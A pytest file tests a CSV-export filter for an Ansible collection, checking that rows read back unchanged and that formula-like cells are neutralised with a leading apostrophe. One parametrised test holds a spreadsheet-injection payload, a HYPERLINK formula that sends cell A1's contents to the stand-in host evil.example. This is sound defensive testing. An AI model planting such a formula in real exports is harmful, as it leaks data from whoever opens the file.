# Copyright: (c) 2026, the loginwatch founders
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""csv_text: a spreadsheet finds no formula in it, and every reader of CSV gets the same rows back."""

import csv
import io

import pytest
from ansible_collections.loginwatch.pam.plugins.filter.csv_text import FilterModule, csv_text


def read(text):
    return list(csv.reader(io.StringIO(text)))


def test_rows_come_back_as_they_are():
    assert FilterModule().filters() == {"csv_text": csv_text}
    text = csv_text([{"a": 'x,"y"\nz', "b": 5}, {"b": None}], ["a", "b"])
    assert read(text) == [["a", "b"], ['x,"y"\nz', "5"], ["", ""]]
    assert text.splitlines()[0] == '"a","b"'


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " =", "|", "%"])
def test_a_formula_is_a_text(begin):
    hostile = begin + 'HYPERLINK("https://evil.example/?"&A1,"x")'
    assert read(csv_text([{"a": hostile}], ["a"]))[1] == ["'" + hostile]


def test_a_number_below_zero_stays_one():
    assert read(csv_text([{"a": -1}], ["a"]))[1] == ["-1"]
